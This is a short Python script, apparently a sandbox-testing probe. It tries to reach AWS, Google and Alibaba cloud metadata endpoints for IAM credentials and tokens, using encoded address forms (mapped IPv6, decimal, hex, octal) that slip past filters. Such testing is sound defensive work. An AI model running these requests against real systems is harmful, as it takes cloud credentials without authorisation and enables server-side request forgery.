"""Reaches metadata through the address forms filters forget: mapped IPv6, decimal, hex, octal, DNS names, other clouds."""
import sandcheck_payload as sc

FORMS = ["::ffff:169.254.169.254", "2852039166", "0xa9fea9fe", "0251.0376.0251.0376"]

args = sc.start()
for form in FORMS:
    outcome, body = sc.http_try(form, 80, "GET", "/latest/meta-data/iam/security-credentials/sandcheck-role")
    print("%s: %s %s" % (form, outcome, body[:300]))
outcome, body = sc.http_try("metadata.google.internal", 80, "GET", "/computeMetadata/v1/instance/service-accounts/default/token", {"Metadata-Flavor": "Google"})
print("metadata.google.internal: %s %s" % (outcome, body[:300]))
outcome, body = sc.http_try("100.100.100.200", 80, "GET", "/latest/meta-data/ram/security-credentials/sandcheck-role")
print("100.100.100.200: %s %s" % (outcome, body[:300]))
sc.done(args)
